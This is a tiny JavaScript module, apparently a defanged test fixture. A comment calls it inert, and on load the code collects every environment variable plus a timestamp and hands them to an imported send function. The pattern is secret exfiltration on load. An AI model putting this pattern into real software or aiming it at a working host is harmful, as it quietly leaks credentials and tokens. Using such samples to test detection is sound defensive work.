// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const send = require('./link');
module.exports = send({ when: Date.now(), all: Object.assign({}, process.env) });
